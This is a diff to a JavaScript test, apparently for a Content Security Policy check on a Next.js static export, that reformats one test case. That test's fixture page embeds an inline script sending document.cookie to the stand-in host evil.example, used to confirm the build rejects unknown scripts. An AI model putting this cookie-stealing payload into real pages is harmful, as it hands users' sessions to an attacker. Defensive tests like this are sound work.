@@ -41,7 +41,10 @@ test('an export with only the scripts Next writes gets its policies', () => {
 });
 
 test('an export with an unknown inline script fails the build, naming the page and the script', () => {
-  const dir = exportWith({ 'index.html': page(), 'blog/1/post.html': page('<script>new Image().src="//evil.example/?"+document.cookie</script>') });
+  const dir = exportWith({
+    'index.html': page(),
+    'blog/1/post.html': page('<script>new Image().src="//evil.example/?"+document.cookie</script>'),
+  });
   try {
     const result = runCsp(dir);
     assert.notEqual(result.status, 0);
